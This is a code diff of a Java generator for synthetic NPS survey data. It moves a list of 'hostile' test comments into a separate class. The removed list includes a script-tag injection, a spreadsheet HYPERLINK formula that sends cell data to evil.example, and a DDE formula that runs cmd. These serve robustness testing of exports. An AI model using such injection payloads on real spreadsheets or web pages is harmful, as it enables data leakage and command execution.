@@ -1,4 +1,4 @@
-package io.github.nps4j.testkit;
+package io.github.nps4j.synthetic;
 
 import io.github.nps4j.core.Account;
 import io.github.nps4j.core.Category;
@@ -47,19 +47,6 @@ final class Generator {
         EpisodeType.RENEWAL, EpisodeType.ONBOARDING, EpisodeType.CONTRACT_NEGOTIATION,
         EpisodeType.PROJECT_COMPLETION};
     private static final double[] EPISODE_WEIGHTS = {0.35, 0.2, 0.12, 0.1, 0.1, 0.13};
-
-    /** Hostile comments: each is used once when hostile text is on. */
-    static final List<String> HOSTILE_COMMENTS = List.of(
-            "He said \"never again\", and he meant it.",
-            "Line one\nLine two\n\nLine four, after a blank line",
-            "<script>alert('nps')</script> Great service!",
-            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")",
-            "-2+3+cmd|' /C calc'!A0",
-            "配送が二度遅れました。サポートは親切でした。",
-            "Доставка задержалась — التسليم تأخر 👎",
-            "Tab\there; backslash C:\\temp\\new & \"quotes\", trailing comma,");
-    static final String HOSTILE_NAME_COMMA = "Smith, Jones & \"Partners\" Ltd";
-    static final String HOSTILE_NAME_CJK = "株式会社さくら物流";
 
     private static final Map<String, String[][]> TEMPLATES = Map.of(
             "delivery", new String[][] {
@@ -288,9 +275,9 @@ final class Generator {
                 default -> structure.pick(SUFFIXES);
             };
             if (cfg.hostileText && p.index == 1) {
-                name = HOSTILE_NAME_COMMA;
+                name = HostileText.NAME_COMMA;
             } else if (cfg.hostileText && p.index == 3) {
-                name = HOSTILE_NAME_CJK;
+                name = HostileText.NAME_CJK;
             }
             double median = switch (p.tier.name()) {
                 case "distributor" -> 400_000;
@@ -486,7 +473,7 @@ final class Generator {
         int width = Math.max(5, Integer.toString(answered.size()).length());
         Set<Integer> hostile = new TreeSet<>();
         if (cfg.hostileText) {
-            int k = Math.min(HOSTILE_COMMENTS.size(), answered.size());
+            int k = Math.min(HostileText.comments().size(), answered.size());
             while (hostile.size() < k) {
                 hostile.add(comments.nextInt(answered.size()));
             }
@@ -525,7 +512,7 @@ final class Generator {
             Category category = Category.of(score);
             Optional<String> comment = Optional.empty();
             if (hostile.contains(i)) {
-                comment = Optional.of(HOSTILE_COMMENTS.get(hostileUsed++));
+                comment = Optional.of(HostileText.comments().get(hostileUsed++));
                 hostileIds.add(id);
             } else {
                 double rate = cfg.commentRate * switch (category) {
